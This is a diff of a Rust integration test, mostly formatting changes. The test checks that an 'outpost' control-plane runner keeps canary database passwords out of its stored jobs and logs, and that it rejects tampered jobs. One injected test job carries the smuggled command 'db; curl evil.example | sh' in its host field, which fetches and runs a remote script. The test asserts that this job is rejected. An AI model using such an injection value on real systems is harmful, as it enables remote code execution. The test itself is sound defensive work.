@@ -37,7 +37,13 @@ fn serve(dir: &Path) -> Server {
     std::fs::write(dir.join("agent-token"), "agent-token-abcdef0123\n").expect("agent token");
     let database = dir.join("control-plane.db");
     let mut child = outpost()
-        .args(["control-plane", "serve", "--listen", "127.0.0.1:0", "--tokens"])
+        .args([
+            "control-plane",
+            "serve",
+            "--listen",
+            "127.0.0.1:0",
+            "--tokens",
+        ])
         .arg(dir.join("tokens"))
         .arg("--admin-token-file")
         .arg(dir.join("admin-token"))
@@ -56,29 +62,61 @@ fn serve(dir: &Path) -> Server {
         .strip_prefix("listening on ")
         .unwrap_or_else(|| panic!("unexpected first line `{line}`"))
         .to_owned();
-    Server { child, url, database }
+    Server {
+        child,
+        url,
+        database,
+    }
 }
 
 fn enqueue(server: &Server, dir: &Path, name: &str, job: serde_json::Value) {
     let file = dir.join(format!("{name}.json"));
     std::fs::write(&file, job.to_string()).expect("job file");
     let out = outpost()
-        .args(["control-plane", "enqueue", "--url", &server.url, "--agent-id", "local-1"])
+        .args([
+            "control-plane",
+            "enqueue",
+            "--url",
+            &server.url,
+            "--agent-id",
+            "local-1",
+        ])
         .arg("--admin-token-file")
         .arg(dir.join("admin-token"))
         .arg(&file)
         .output()
         .expect("enqueue runs");
-    assert!(out.status.success(), "enqueue: {}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "enqueue: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
 }
 
 fn psql(sql: &str) {
     let out = Command::new(format!("{}/psql", env("OUTPOST_TEST_PG_BIN")))
-        .args(["-v", "ON_ERROR_STOP=1", "-h", &env("OUTPOST_TEST_PG_HOST"), "-p", &env("OUTPOST_TEST_PG_PORT"), "-U", &env("OUTPOST_TEST_PG_SUPERUSER"), "-d", "postgres", "-c", sql])
+        .args([
+            "-v",
+            "ON_ERROR_STOP=1",
+            "-h",
+            &env("OUTPOST_TEST_PG_HOST"),
+            "-p",
+            &env("OUTPOST_TEST_PG_PORT"),
+            "-U",
+            &env("OUTPOST_TEST_PG_SUPERUSER"),
+            "-d",
+            "postgres",
+            "-c",
+            sql,
+        ])
         .env("PGPASSWORD", env("OUTPOST_TEST_PG_PASSWORD"))
         .output()
         .expect("psql runs");
-    assert!(out.status.success(), "psql: {}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "psql: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
 }
 
 fn job(id: &str, connection: &str, user: &str, mode: &str) -> serde_json::Value {
@@ -116,7 +154,9 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
     let good_canary = format!("CANARY-GOOD-{pid}-71c3e");
     let wrong_canary = format!("CANARY-WRONG-{pid}-5d0a9");
     let role = format!("outpost_canary_{pid}");
-    psql(&format!("DROP ROLE IF EXISTS {role}; CREATE ROLE {role} LOGIN PASSWORD '{good_canary}'"));
+    psql(&format!(
+        "DROP ROLE IF EXISTS {role}; CREATE ROLE {role} LOGIN PASSWORD '{good_canary}'"
+    ));
 
     // One folder per connection, as the Secrets `outpost-source-<connection>` would be.
     let secrets = dir.join("secrets");
@@ -125,8 +165,18 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
         std::fs::write(secrets.join(connection).join("password"), password).expect("password");
     }
     let server = serve(&dir);
-    enqueue(&server, &dir, "good", job("job-good", "pg-good", &role, "bucket-relay"));
-    enqueue(&server, &dir, "wrong", job("job-wrong", "pg-wrong", &role, "bucket-relay"));
+    enqueue(
+        &server,
+        &dir,
+        "good",
+        job("job-good", "pg-good", &role, "bucket-relay"),
+    );
+    enqueue(
+        &server,
+        &dir,
+        "wrong",
+        job("job-wrong", "pg-wrong", &role, "bucket-relay"),
+    );
     let mut injected = job("job-injected", "pg-good", &role, "bucket-relay");
     injected["image"] = serde_json::json!("evil/image:latest");
     injected["parameters"]["host"] = serde_json::json!("db; curl evil.example | sh");
@@ -146,7 +196,10 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
     let stdout = String::from_utf8_lossy(&run.stdout);
     let stderr = String::from_utf8_lossy(&run.stderr);
     assert!(run.status.success(), "run failed:\n{stdout}\n{stderr}");
-    assert!(stdout.contains("1 succeeded, 1 failed, 1 rejected"), "{stdout}");
+    assert!(
+        stdout.contains("1 succeeded, 1 failed, 1 rejected"),
+        "{stdout}"
+    );
 
     let states = states(&server.database);
     let state_of = |id: &str| states.iter().find(|s| s.0 == id).cloned().expect("job");
@@ -154,11 +207,17 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
     let (_, state, message) = state_of("job-wrong");
     assert_eq!(state, "failed");
     let message = message.expect("a failure message");
-    assert!(message.contains("exit code 77"), "login refused is reported: {message}");
+    assert!(
+        message.contains("exit code 77"),
+        "login refused is reported: {message}"
+    );
     let (_, state, message) = state_of("job-injected");
     assert_eq!(state, "rejected");
     let message = message.expect("reasons");
-    assert!(message.contains("`image`") && message.contains("host"), "{message}");
+    assert!(
+        message.contains("`image`") && message.contains("host"),
+        "{message}"
+    );
     // The good job's manifest is in the bucket.
     assert!(bucket.join("pg-good/job-good/r1/manifest.json").is_file());
 
@@ -172,7 +231,11 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
         .map(Result::unwrap)
         .collect();
     assert_eq!(logs.len(), 2, "logs of both runs shipped");
-    assert!(logs.iter().any(|l| l.contains("connection pg-wrong") && l.contains("failed")), "{logs:?}");
+    assert!(
+        logs.iter()
+            .any(|l| l.contains("connection pg-wrong") && l.contains("failed")),
+        "{logs:?}"
+    );
     let heartbeats: i64 = connection
         .query_row("SELECT COUNT(*) FROM heartbeats", [], |r| r.get(0))
         .expect("count");
@@ -183,13 +246,24 @@ fn local_mode_runs_jobs_and_no_canary_secret_is_ever_shipped() {
     // what the runner printed.
     let mut shipped = Vec::new();
     for entry in std::fs::read_dir(&dir).expect("dir").filter_map(Result::ok) {
-        if entry.file_name().to_string_lossy().starts_with("control-plane.db") {
+        if entry
+            .file_name()
+            .to_string_lossy()
+            .starts_with("control-plane.db")
+        {
             shipped.extend(std::fs::read(entry.path()).expect("read"));
         }
     }
-    let found = |needle: &str| shipped.windows(needle.len()).any(|w| w == needle.as_bytes());
+    let found = |needle: &str| {
+        shipped
+            .windows(needle.len())
+            .any(|w| w == needle.as_bytes())
+    };
     // The search finds what is there: the role name is in the jobs and the logs.
-    assert!(found(&role), "the search cannot find what the control plane holds");
+    assert!(
+        found(&role),
+        "the search cannot find what the control plane holds"
+    );
     for canary in [&good_canary, &wrong_canary] {
         assert!(!found(canary), "{canary} reached the control plane");
         assert!(!stdout.contains(canary.as_str()) && !stderr.contains(canary.as_str()));
